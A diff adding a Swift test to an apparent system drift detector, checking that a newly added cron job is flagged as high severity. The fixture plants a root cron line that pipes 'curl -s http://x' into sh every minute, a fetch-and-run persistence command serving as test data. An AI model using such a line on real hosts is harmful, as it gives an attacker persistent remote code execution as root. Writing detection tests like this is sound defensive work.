@@ -184,6 +184,28 @@ struct EndToEndDriftTests {
         #expect(Fixture.items(report).count == 2, "the status file itself is grouped under the packages")
     }
 
+    @Test("a new cron job shows up as a cron item, with its crontab file grouped under it")
+    func newCronJob() throws {
+        let fixture = try Fixture()
+        try fixture.directory.write("image/etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
+        try fixture.directory.makeDirectory("image/etc/cron.d")
+        let baseline = try fixture.scan("baseline.jsonl")
+        let host = fixture.directory.url("host")
+        #expect(
+            try CommandLineTool.shell(
+                "cp -a '\(fixture.root)' '\(host)' && echo '* * * * * root curl -s http://x | sh' > '\(host)/etc/cron.d/update'"
+            ).status == 0)
+        let (_, report) = try fixture.jsonReport(baseline, try fixture.scan("host.jsonl", root: host))
+        #expect(Fixture.items(report).count == 1)
+        let item = Fixture.item(report, named: "/etc/cron.d/update")
+        #expect(item?["kind"]?.stringValue == "cron")
+        #expect(item?["change"]?.stringValue == "added")
+        #expect(item?["severity"]?.stringValue == "high")
+        #expect(item?["host"]?["jobs"] == .integer(1))
+        guard case .array(let related)? = item?["related"] else { Issue.record("no related files"); return }
+        #expect(related.first?["name"]?.stringValue == "/etc/cron.d/update")
+    }
+
     @Test("a new uid-0 account is critical")
     func newRootAccountIsCritical() throws {
         let fixture = try Fixture()
